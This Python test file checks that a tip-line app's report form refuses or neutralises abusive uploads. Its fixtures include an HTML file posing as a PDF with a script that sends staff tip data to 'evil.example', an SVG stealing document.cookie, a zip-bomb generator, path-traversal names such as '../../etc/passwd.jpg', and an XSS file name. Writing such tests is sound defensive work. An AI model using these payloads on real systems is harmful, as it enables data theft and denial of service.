"""Upload abuse through the real report form (the sniffing itself is unit-tested in tests/intake/test_files.py).

Added here, not covered elsewhere: an HTML page named .pdf and an SVG with script named .png through
the form, a zip bomb named .docx through the form, an oversized request (friendly 413 page in
Chinese), path names in file names (stored under a random name, shown without the path), and
markup in a file name (shown escaped).
"""
from __future__ import annotations

import io
import re
import zipfile

from sqlalchemy import func, select

from tipline.intake.models import EvidenceFile, Tip

from ..intake.helpers import open_status, receipt_of, submit
from . import world as w

HTML_AS_PDF = (b"<!DOCTYPE html><html><head><title>report</title></head><body>"
               b"<script>fetch('/staff/tips').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>"
               b"</body></html>")
SVG_AS_PNG = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
              b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              b"<script>alert(document.cookie)</script><rect width=\"10\" height=\"10\"/></svg>")


def _zip_bomb() -> bytes:
    """A .docx-shaped zip: 300 MB of zeros deflated to a few hundred KB, written in chunks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                           'package/2006/content-types"/>')
        chunk = b"\0" * (4 * 1024 * 1024)
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            for _ in range(75):
                fh.write(chunk)
    return out.getvalue()


def _no_tip_and_no_files(session):
    session.rollback()
    assert session.scalar(select(func.count(Tip.id))) == 0
    assert session.scalar(select(func.count(EvidenceFile.id))) == 0


def _stored_blobs(app) -> list:
    if app.extensions["evidence_store"].in_database:  # PostgreSQL's default store: chunk rows, not files
        from tipline.extensions import db
        from tipline.intake.dbstore import EvidenceChunk
        assert db.factory is not None
        with db.factory() as s:
            return list(s.scalars(select(EvidenceChunk.stored_name).distinct()).all())
    root = app.extensions["evidence_store"].root if hasattr(app.extensions["evidence_store"], "root") else None
    base = root or (app.instance_path + "/evidence")
    import pathlib
    return [p for p in pathlib.Path(base).rglob("*") if p.is_file() and not p.name.startswith(".tmp-")]


def test_html_page_named_pdf_is_refused(app, session):
    client = w.new_client(app)
    resp = submit(client, files=[("处罚决定书.pdf", HTML_AS_PDF)])
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    assert "处罚决定书.pdf" in html and "evil.example" not in html
    _no_tip_and_no_files(session)
    assert _stored_blobs(app) == []


def test_svg_with_script_named_png_is_refused(app, session):
    client = w.new_client(app)
    resp = submit(client, files=[("现场.png", SVG_AS_PNG)])
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    assert "现场.png" in html and "document.cookie" not in html
    _no_tip_and_no_files(session)


def test_zip_bomb_named_docx_is_refused_through_the_form(app, session):
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024  # ~300 KB on the wire
    client = w.new_client(app)
    resp = submit(client, files=[("合同.docx", bomb)])
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    assert "合同.docx" in html
    # the zip-bomb wording, not a generic error
    assert "“合同.docx”无法接收（文件解压后的内容远大于文件本身）。" in html
    _no_tip_and_no_files(session)
    assert _stored_blobs(app) == []


def test_request_over_the_size_limit_gets_the_friendly_413_page_in_chinese(app, session):
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    client = w.new_client(app)
    resp = submit(client, files=[("大文件.jpg", w.jpeg() + b"\0" * (200 * 1024))])
    assert resp.status_code == 413
    assert resp.mimetype == "text/html"
    html = resp.get_data(as_text=True)
    assert "文件过大" in html
    assert "Traceback" not in html and "RequestEntityTooLarge" not in html
    _no_tip_and_no_files(session)


def test_path_names_in_file_names_are_stored_randomly_and_shown_without_the_path(app, session):
    client = w.new_client(app)
    # Backslashes doubled: in a multipart header a backslash escapes the next character, so this is
    # how a client sends the names C:\evil\x.jpg and ..\..\windows\win.ini.jpg.
    resp = submit(client, files=[("../../etc/passwd.jpg", w.jpeg()), ("C:\\\\evil\\\\x.jpg", w.jpeg()),
                                 ("..\\\\..\\\\windows\\\\win.ini.jpg", w.jpeg())])
    assert resp.status_code == 200, resp.status_code
    code = receipt_of(resp.get_data(as_text=True))
    files = session.scalars(select(EvidenceFile).order_by(EvidenceFile.id)).all()
    assert sorted(f.display_name for f in files) == ["passwd.jpg", "win.ini.jpg", "x.jpg"]
    for f in files:
        assert re.fullmatch(r"[0-9a-f]{32}", f.stored_name), f.stored_name
    blobs = _stored_blobs(app)
    assert len(blobs) == 3
    assert not any("passwd" in str(p) or "evil" in str(p) or "win.ini" in str(p) for p in blobs)
    # the reporter's page lists the names without any path
    session.rollback()  # end this reader's transaction before the next request writes
    resp = open_status(w.new_client(app), code)
    page = resp.get_data(as_text=True)
    assert resp.request.path == "/status/report", (resp.status_code, resp.request.path, page[-3000:])
    listing = page[page.index('data-testid="evidence-list"'):]
    listing = listing[:listing.index("</ul>")]
    for shown in ("passwd.jpg", "x.jpg", "win.ini.jpg"):
        assert shown in listing
    for path_part in ("../", "etc/", "C:", "\\", "evil", "windows"):
        assert path_part not in listing, path_part


def test_markup_in_a_file_name_is_shown_escaped(app, session):
    client = w.new_client(app)
    resp = submit(client, files=[('<img src=x onerror=alert(1)>.pdf', HTML_AS_PDF)])
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    assert "<img src=x onerror=alert(1)>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_browser_style_backslash_name_keeps_no_separator(app, session):
    """A name sent with single backslashes (as a browser would put C:\\evil\\x.jpg into the header) loses them
    in header parsing (quoted-string escapes): shown as "C:evilx.jpg" -- no path separator survives either way."""
    client = w.new_client(app)
    assert submit(client, files=[("C:\\evil\\x.jpg", w.jpeg())]).status_code == 200
    f = session.scalars(select(EvidenceFile)).one()
    assert "\\" not in f.display_name and "/" not in f.display_name
    assert re.fullmatch(r"[0-9a-f]{32}", f.stored_name)
